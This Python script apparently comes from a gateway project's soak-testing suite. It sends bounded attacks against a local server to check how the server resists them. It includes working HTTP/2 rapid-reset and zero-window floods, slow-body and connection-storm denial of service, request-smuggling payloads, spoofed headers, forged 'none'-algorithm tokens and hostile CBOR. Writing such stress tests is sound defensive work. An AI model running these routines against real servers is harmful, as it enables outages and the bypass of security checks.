#!/usr/bin/env python3
"""The attacks of Benchmarks/soak.sh, one per call, each bounded in time (issue 15's list).

usage: soak_attacks.py ATTACK PORT [SECONDS]
       soak_attacks.py --list      (every kind: the soak's attacks, then the bursts)

  rapid-reset      HTTP/2 HEADERS+RST_STREAM pairs, 300 per connection, reconnecting
  zero-window      HTTP/2 with SETTINGS_INITIAL_WINDOW_SIZE=0, 50 streams of /big, held, then dropped
  zero-window-churn  issue 39: from 127.0.0.3, up to 36 h2c connections at a time with a zero window and 100
                   streams of /big each, every one dropped with RST after 0.25 s and opened again (up to 14,400
                   streams a second, each holding an upstream connection while it lasts)
  close-mid-body   h2c and HTTP/1.1 POSTs that send part of a body and close (half with RST)
  slow-body        HTTP/1.1 POSTs that announce 1 MB, send 10 bytes, then go silent
  silent           connections that send nothing
  underscore       requests with X_AppCheck_Status and X_Forwarded_For headers
  hostile-tokens   malformed, forged and oversized tokens on the enforce route
  smuggling        Content-Length + Transfer-Encoding, duplicate lengths, bare LF, obs-fold
  issuer-flood     exchangeDebugToken with a wrong secret, 8 connections as fast as they are answered
  challenge-flood  generateAppAttestChallenge, 8 connections as fast as they are answered
  issuer-slow-body 300 connections declare a 64 KiB exchange body, send all but one byte and wait
  hostile-cbor     exchangeAppAttestAttestation with hostile CBOR (random, deep nesting, huge lengths)
  custom-replay    one custom token (SOAK_CUSTOM_TOKEN_CMD prints a fresh one) exchanged again and again

Bursts for Benchmarks/defects.sh --memory only (not in soak.sh's rotation):

  big-uploads      64 clients each POST 8 MB to /upload (the `off` route taking 20 MiB bodies), again and again
  h2-buffers       2,000 zero-window streams of /big (20 h2c connections × 100), held, then RST (defects.sh's #4)
  issuer-bodies    480 issuer exchanges (from 127.0.2.1-16, 30 each, at most 150 a second: under the issuer's
                   per-address and process rate limits) each declare a 64 KiB body and send all but one byte
                   (30 MiB of the 32 MiB issuer body budget), held, then RST
  conn-storm       5,000 connections (from 127.0.1.1-10, 500 each: under max_connections_per_address) each send
                   one GET, are held 3 s, then closed; again until the time is up

The issuer attacks come from 127.0.0.1 (as does soak.sh's wrk), zero-window-churn from 127.0.0.3; Benchmarks/soak.sh's
well-behaved client from 127.0.0.2.

Prints one line: ATTACK CONNECTIONS REQUESTS. Never raises on the gateway's refusals: they are the point.
"""
import os
import random
import socket
import struct
import sys
import time

HOST = "127.0.0.1"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(ftype, flags=0, stream=0, payload=b""):
    n = len(payload)
    return struct.pack(">BHBBI", n >> 16, n & 0xFFFF, ftype, flags, stream & 0x7FFFFFFF) + payload


def hpack_get(path):
    p = path.encode()
    return bytes([0x82, 0x86, 0x04, len(p)]) + p + b"\x41\x01a"


def hpack_post(path):
    p = path.encode()
    return bytes([0x83, 0x86, 0x04, len(p)]) + p + b"\x41\x01a"


def connect(port, timeout=2.0):
    s = socket.create_connection((HOST, port), timeout=timeout)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return s


def drain(s, seconds):
    end = time.time() + seconds
    s.settimeout(0.2)
    while time.time() < end:
        try:
            if not s.recv(65536):
                return
        except socket.timeout:
            continue
        except OSError:
            return


def rst_close(s):
    try:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    except OSError:
        pass
    s.close()


def rapid_reset(port, seconds):
    conns = reqs = 0
    end = time.time() + seconds
    while time.time() < end:
        try:
            s = connect(port)
        except OSError:
            time.sleep(0.05)
            continue
        out = bytearray(PREFACE + frame(4))
        for i in range(300):
            sid = 2 * i + 1
            out += frame(1, 0x5, sid, hpack_get("/"))
            out += frame(3, 0, sid, b"\x00\x00\x00\x08")
        try:
            s.sendall(out)
            drain(s, 0.2)
        except OSError:
            pass
        s.close()
        conns += 1
        reqs += 300
    return conns, reqs


def zero_window(port, seconds):
    conns = reqs = 0
    end = time.time() + seconds
    while time.time() < end:
        try:
            s = connect(port)
            out = PREFACE + frame(4, 0, 0, struct.pack(">HI", 4, 0))
            for i in range(50):
                out += frame(1, 0x5, 2 * i + 1, hpack_get("/big"))
            s.sendall(out)
            drain(s, min(5, max(0.5, end - time.time())))
            rst_close(s)
            conns += 1
            reqs += 50
        except OSError:
            time.sleep(0.05)
    return conns, reqs


def zero_window_churn(port, seconds):
    HOLD = 0.25
    conns = reqs = 0
    end = time.time() + seconds
    hello = PREFACE + frame(4, 0, 0, struct.pack(">HI", 4, 0))
    streams = b"".join(frame(1, 0x5, 2 * i + 1, hpack_get("/big")) for i in range(100))
    live = []  # (socket, opened at)
    while time.time() < end:
        now = time.time()
        kept = []
        for s, opened in live:
            if now - opened >= HOLD:
                rst_close(s)
                continue
            kept.append((s, opened))
            try:
                s.recv(65536)  # the answers' heads and refusals; never a window update
            except (BlockingIOError, socket.timeout):
                pass
            except OSError:
                pass
        live = kept
        while len(live) < 36 and time.time() < end:
            s = socket.socket()
            try:
                s.bind(("127.0.0.3", 0))
                s.settimeout(2)
                s.connect((HOST, port))
                s.sendall(hello + streams)
                s.setblocking(False)
            except OSError:
                s.close()
                time.sleep(0.05)
                break
            live.append((s, time.time()))
            conns += 1
            reqs += 100
            time.sleep(HOLD / 36)  # spread the connections over the hold time: a steady churn
        time.sleep(0.01)
    for s, _ in live:
        rst_close(s)
    return conns, reqs


def close_mid_body(port, seconds):
    conns = reqs = 0
    end = time.time() + seconds
    chunk = b"x" * 16384
    while time.time() < end:
        batch = []
        for i in range(20):
            try:
                s = connect(port)
                if i % 2:
                    s.sendall(PREFACE + frame(4) + frame(1, 0x4, 1, hpack_post("/upload")) + frame(0, 0, 1, chunk) * 2)
                else:
                    s.sendall(b"POST /upload HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\n" + chunk * 2)
                batch.append(s)
                reqs += 1
            except OSError:
                pass
        time.sleep(0.2)
        for i, s in enumerate(batch):
            rst_close(s) if i % 4 == 0 else s.close()
        conns += len(batch)
    return conns, reqs


def slow_body(port, seconds):
    held = []
    end = time.time() + seconds
    while time.time() < end and len(held) < 200:
        try:
            s = connect(port)
            s.sendall(b"POST /upload HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\n0123456789")
            held.append(s)
        except OSError:
            time.sleep(0.05)
    time.sleep(max(0, end - time.time()))
    for s in held:
        s.close()
    return len(held), len(held)


def silent(port, seconds):
    held = []
    end = time.time() + seconds
    while time.time() < end and len(held) < 300:
        try:
            held.append(connect(port))
        except OSError:
            time.sleep(0.05)
    time.sleep(max(0, end - time.time()))
    for s in held:
        s.close()
    return len(held), 0


def one_request(port, raw, read=True):
    try:
        s = connect(port)
        s.sendall(raw)
        if read:
            drain(s, 0.3)
        s.close()
        return 1
    except OSError:
        return 0


def underscore(port, seconds):
    n = 0
    end = time.time() + seconds
    while time.time() < end:
        n += one_request(port, b"GET /x HTTP/1.1\r\nHost: a\r\nX_AppCheck_Status: verified\r\n"
                               b"X_Forwarded_For: 6.6.6.6\r\nConnection: close\r\n\r\n")
    return n, n


def hostile_tokens(port, seconds):
    n = 0
    end = time.time() + seconds
    rnd = random.Random(15)
    shapes = [
        lambda: "a.b.c",
        lambda: "eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.",
        lambda: "x" * 9000,
        lambda: ".".join("".join(rnd.choice("ABCxyz019-_") for _ in range(rnd.randint(0, 400))) for _ in range(3)),
        lambda: "eyJhbGciOiJSUzI1NiIsImtpZCI6Ijk5In0." + "e" * 300 + "." + "s" * 342,
    ]
    while time.time() < end:
        token = rnd.choice(shapes)()
        n += one_request(port, ("GET /api/x HTTP/1.1\r\nHost: a\r\nX-Firebase-AppCheck: %s\r\nConnection: close\r\n\r\n"
                                % token).encode())
    return n, n


def smuggling(port, seconds):
    cases = [
        b"POST /x HTTP/1.1\r\nHost: a\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
        b"POST /x HTTP/1.1\r\nHost: a\r\nContent-Length: 4\r\nContent-Length: 5\r\n\r\nabcde",
        b"GET /x HTTP/1.1\nHost: a\n\n",
        b"GET /x HTTP/1.1\r\nHost: a\r\nX-Fold: a\r\n b\r\n\r\n",
        b"POST /x HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n",
        b"GET /x HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n",
    ]
    n = 0
    end = time.time() + seconds
    while time.time() < end:
        for c in cases:
            n += one_request(port, c)
    return n, n


ISSUER_BASE = "/appcheck/v1/projects/123456789012/apps/"
SOAK_APP = "1:123456789012:ios:0a1b2c3d4e5f6a7b"


def issuer_post(port, method, body, app=SOAK_APP, keep=None):
    """One POST to the issuer on a new connection; 1 when answered (any status)."""
    data = body if isinstance(body, bytes) else body.encode()
    raw = ("POST %s%s:%s HTTP/1.1\r\nHost: gw\r\nContent-Type: application/json\r\nContent-Length: %d\r\n"
           "Connection: close\r\n\r\n" % (ISSUER_BASE, app, method, len(data))).encode() + data
    return one_request(port, raw)


def issuer_flood(port, seconds, method="exchangeDebugToken", body='{"debug_token":"not-the-secret-0123456789"}'):
    import threading
    counts = [0] * 8
    end = time.time() + seconds

    def worker(i):
        while time.time() < end:
            counts[i] += issuer_post(port, method, body)
    threads = [threading.Thread(target=worker, args=(i,)) for i in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    return sum(counts), sum(counts)


def challenge_flood(port, seconds):
    return issuer_flood(port, seconds, method="generateAppAttestChallenge", body="")


def issuer_slow_body(port, seconds):
    held = []
    head = ("POST %s%s:exchangeDebugToken HTTP/1.1\r\nHost: gw\r\nContent-Type: application/json\r\n"
            "Content-Length: 65536\r\n\r\n" % (ISSUER_BASE, SOAK_APP)).encode()
    for _ in range(300):
        try:
            s = connect(port)
            s.sendall(head + b" " * 65535)
            held.append(s)
        except OSError:
            break
    drain_all(held, seconds)
    return len(held), len(held)


def drain_all(socks, seconds):
    end = time.time() + seconds
    while time.time() < end:
        for s in list(socks):
            try:
                s.setblocking(False)
                if s.recv(65536) == b"":
                    socks.remove(s)
            except BlockingIOError:
                pass
            except OSError:
                socks.remove(s)
        time.sleep(0.2)
    for s in socks:
        rst_close(s)


def hostile_cbor(port, seconds):
    import base64
    import json
    rnd = random.Random(7)
    shapes = [
        lambda: os.urandom(rnd.randint(1, 4000)),
        lambda: b"\x81" * 5000,                                    # arrays nested 5,000 deep
        lambda: b"\xbf" * 3000,                                    # indefinite maps nested
        lambda: b"\x5b\xff\xff\xff\xff\xff\xff\xff\xff",        # a byte string of 2^64-1 bytes
        lambda: b"\xa3\x63fmt\x6fapple-appattest\x67attStmt\xa0\x68authData\x59\xff\xff",  # truncated
        lambda: b"\xd8\x18" * 1000 + b"\x00",                      # tags on tags
    ]
    n = 0
    end = time.time() + seconds
    while time.time() < end:
        body = json.dumps({"attestation_statement": base64.b64encode(rnd.choice(shapes)()).decode(),
                           "challenge": base64.b64encode(os.urandom(32)).decode(),
                           "key_id": base64.b64encode(os.urandom(32)).decode()})
        n += issuer_post(port, "exchangeAppAttestAttestation", body)
    return n, n


def custom_replay(port, seconds):
    import json
    import subprocess
    cmd = os.environ.get("SOAK_CUSTOM_TOKEN_CMD")
    if not cmd:
        return 0, 0
    token = subprocess.run(cmd, shell=True, capture_output=True, text=True).stdout.strip()
    body = json.dumps({"custom_token": token})
    n = 0
    end = time.time() + seconds
    while time.time() < end:
        n += issuer_post(port, "exchangeCustomToken", body)
    return n, n


def big_uploads(port, seconds, clients=64, size=8 << 20):
    import threading
    body = b"u" * size
    head = b"POST /upload HTTP/1.1\r\nHost: a\r\nContent-Length: %d\r\nConnection: close\r\n\r\n" % size
    counts = [0] * clients
    end = time.time() + seconds

    def worker(i):
        while time.time() < end:
            try:
                s = connect(port, timeout=10)
                s.sendall(head)
                s.sendall(body)
                drain(s, 5)
                s.close()
                counts[i] += 1
            except OSError:
                time.sleep(0.05)
    threads = [threading.Thread(target=worker, args=(i,)) for i in range(clients)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    return clients, sum(counts)


def h2_buffers(port, seconds, conns=20, streams=100):
    socks = []
    for _ in range(conns):
        try:
            s = connect(port)
            out = PREFACE + frame(4, 0, 0, struct.pack(">HI", 4, 0))
            for i in range(streams):
                out += frame(1, 0x5, 2 * i + 1, hpack_get("/big"))
            s.sendall(out)
            socks.append(s)
        except OSError:
            pass
    n = len(socks)
    drain_all(socks, seconds)  # reads what the gateway sends (headers; no DATA fits a zero window), then RST
    return n, n * streams


def issuer_bodies(port, seconds, total=480, sources=16, per_second=150):
    head = ("POST %s%s:exchangeDebugToken HTTP/1.1\r\nHost: gw\r\nContent-Type: application/json\r\n"
            "Content-Length: 65536\r\n\r\n" % (ISSUER_BASE, SOAK_APP)).encode()
    held = []
    end = time.time() + seconds
    second = time.time()
    for i in range(total):
        if i and i % per_second == 0:  # the process ceiling: 200 exchanges a second, burst 200
            time.sleep(max(0, second + 1.05 - time.time()))
            second = time.time()
        s = socket.socket()
        try:
            s.bind(("127.0.2.%d" % (i % sources + 1), 0))
            s.settimeout(2)
            s.connect((HOST, port))
            s.sendall(head + b" " * 65535)
            held.append(s)
        except OSError:
            s.close()
    n = len(held)
    drain_all(held, max(0, end - time.time()))
    return n, n


def conn_storm(port, seconds, total=5000, sources=10, hold=3):
    per = total // sources
    conns = 0
    end = time.time() + seconds
    while time.time() + hold < end:
        held = []
        for a in range(sources):
            for _ in range(per):
                try:
                    s = socket.socket()
                    s.bind(("127.0.1.%d" % (a + 1), 0))
                    s.settimeout(2)
                    s.connect((HOST, port))
                    s.sendall(b"GET / HTTP/1.1\r\nHost: a\r\n\r\n")
                    held.append(s)
                except OSError:
                    s.close()
        conns += len(held)
        time.sleep(hold)
        for s in held:
            s.close()
        time.sleep(0.5)
    return conns, conns


ATTACKS = {
    "rapid-reset": rapid_reset, "zero-window": zero_window, "zero-window-churn": zero_window_churn,
    "close-mid-body": close_mid_body,
    "slow-body": slow_body, "silent": silent, "underscore": underscore, "hostile-tokens": hostile_tokens,
    "smuggling": smuggling, "issuer-flood": issuer_flood, "challenge-flood": challenge_flood,
    "issuer-slow-body": issuer_slow_body, "hostile-cbor": hostile_cbor, "custom-replay": custom_replay,
}
# defects.sh --memory's bursts beside them (not in soak.sh's rotation).
BURSTS = {"big-uploads": big_uploads, "h2-buffers": h2_buffers, "issuer-bodies": issuer_bodies,
          "conn-storm": conn_storm}

if len(sys.argv) > 1 and sys.argv[1] == "--list":
    print(" ".join(list(ATTACKS) + list(BURSTS)))
    sys.exit(0)

if __name__ == "__main__":
    kinds = dict(ATTACKS, **BURSTS)
    if len(sys.argv) < 3 or sys.argv[1] not in kinds:
        sys.stderr.write(__doc__)
        sys.exit(2)
    seconds = float(sys.argv[3]) if len(sys.argv) > 3 else 20
    c, r = kinds[sys.argv[1]](int(sys.argv[2]), seconds)
    print("%s %d %d" % (sys.argv[1], c, r))
